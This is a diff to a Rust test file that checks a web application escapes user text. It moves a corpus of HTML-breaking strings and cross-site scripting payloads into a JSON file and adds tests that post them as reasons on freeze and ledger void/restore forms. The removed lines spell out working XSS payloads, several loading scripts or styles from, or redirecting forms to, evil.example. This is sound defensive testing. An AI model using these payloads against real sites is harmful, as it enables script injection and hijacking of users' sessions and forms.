@@ -2,7 +2,7 @@
 //! field that takes words, and every page read as a browser reads it. No element and no attribute
 //! of theirs may be there.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 
 use axum::http::StatusCode;
 use enishi_desk::write_assessment::LONGEST_TEXT;
@@ -15,56 +15,18 @@ use crate::closings::carried;
 use crate::importing::{handed_over, tried};
 use crate::routes::routes;
 
-/// What closes whatever the text may stand in.
-const BREAKS: [&str; 12] = [
-    "",
-    "\">",
-    "'>",
-    "\" ",
-    "</textarea>",
-    "</title></option></select>",
-    "</td></table>",
-    "</script>",
-    "--><!-->",
-    "]]>",
-    "&quot;&gt;",
-    "\u{2028}\\\"/>",
-];
-
-/// What would run then. Each carries an attribute or an element that no page of ours has.
-const LOADS: [&str; 25] = [
-    "<script canary>alert(1)</script>",
-    "<ScRiPt canary/src=//evil.example/x.js></sCrIpT>",
-    "<img canary src=x onerror=alert(1)>",
-    "<svg canary/onload=alert(1)>",
-    "<svg><canary/><animate onbegin=alert(1) attributeName=x>",
-    "<a canary href=javascript:alert(1)>x</a>",
-    "<a canary href=\"java&#9;script:alert(1)\">x</a>",
-    "<iframe canary srcdoc=\"<script>alert(1)</script>\">",
-    "<details canary open ontoggle=alert(1)>",
-    "<input canary autofocus onfocus=alert(1)>",
-    "<form canary action=https://evil.example/><button>送信</button>",
-    "<button canary formaction=https://evil.example/>送信</button>",
-    "<base canary href=https://evil.example/>",
-    "<meta canary http-equiv=refresh content=\"0;url=https://evil.example/\">",
-    "<link canary rel=stylesheet href=https://evil.example/x.css>",
-    "<style canary>@import url(https://evil.example/x.css)</style>",
-    "<object canary data=https://evil.example/></object>",
-    "<embed canary src=https://evil.example/>",
-    "<math><canary xlink:href=javascript:alert(1)>x</math>",
-    "<template canary><script>alert(1)</script></template>",
-    "<noscript canary><img src=x onerror=alert(1)></noscript>",
-    "<canary style=animation-name:x onanimationstart=alert(1)>",
-    "canary=1 onmouseover=alert(1) x=",
-    "<!--canary--!><canary>{{7*7}}${7*7}<%= 7*7 %>",
-    "＜script＞<canary>\u{202e}tpircs<\u{200b}script canary>",
-];
+/// What closes whatever the text may stand in, and what would run then. Each of these carries an
+/// attribute or an element that no page of ours has. A real browser is given the same.
+const CORPUS: &str = include_str!("../../../../tests/browser/attacks.json");
 
 /// All of them, each break before each load.
 fn corpus() -> Vec<String> {
-    let pairs = BREAKS
-        .iter()
-        .flat_map(|open| LOADS.iter().map(move |load| format!("{open}{load}")));
+    let lists: BTreeMap<String, Vec<String>> = serde_json::from_str(CORPUS).unwrap();
+    let pairs = lists["breaks"].iter().flat_map(|open| {
+        lists["loads"]
+            .iter()
+            .map(move |load| format!("{open}{load}"))
+    });
     let corpus: Vec<String> = pairs.collect();
     assert_eq!(corpus.len(), 300);
     let different: BTreeSet<&String> = corpus.iter().collect();
@@ -234,6 +196,24 @@ async fn say_reasons(town: &Town, corpus: &[String]) {
         say_period(&mut planning, "close", "").await;
         say_period(&mut planning, "reopen", &reason).await;
     }
+    say_period(&mut planning, "close", "").await;
+    freeze(&mut planning, None).await;
+    for reason in corpus.chunks(4).map(|some| some.join(" ")) {
+        freeze(&mut planning, Some(&reason)).await;
+    }
+}
+
+/// Freezes the year, or freezes it again for a reason.
+async fn freeze(browser: &mut Browser, reason: Option<&str>) {
+    let page = browser.get("/closings/figures?year=R6").await;
+    look_through(&page, "/closings/figures");
+    // The last form is the one that freezes again.
+    let (_, seen) = page.text.rsplit_once("name=\"seen\" value=\"").unwrap();
+    let seen = seen.split('"').next().unwrap();
+    let mut fields = vec![("year", "R6"), ("seen", seen)];
+    fields.extend(reason.map(|reason| ("reason", reason)));
+    let answer = browser.post("/closings/figures", &fields).await;
+    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
 }
 
 /// Takes a step with the part of the sheet that is written.
@@ -311,6 +291,21 @@ async fn record(town: &Town, corpus: &[String]) -> String {
     ];
     let answer = clerk.post(&format!("/ledger/{id}/correct"), &fields).await;
     assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
+    for reason in corpus.chunks(4).map(|some| some.join(" ")) {
+        for (page, step) in [("/correct", "void"), ("", "restore")] {
+            let form = clerk.get(&format!("/ledger/{id}{page}")).await;
+            look_through(&form, step);
+            let seen = form.hidden("seen");
+            let fields = [
+                ("seen", seen.as_str()),
+                ("reason", "duplicate"),
+                ("reason_text", &reason),
+            ];
+            let path = format!("/ledger/{id}/{step}");
+            let answer = clerk.post(&path, &fields).await;
+            assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
+        }
+    }
     id
 }
 
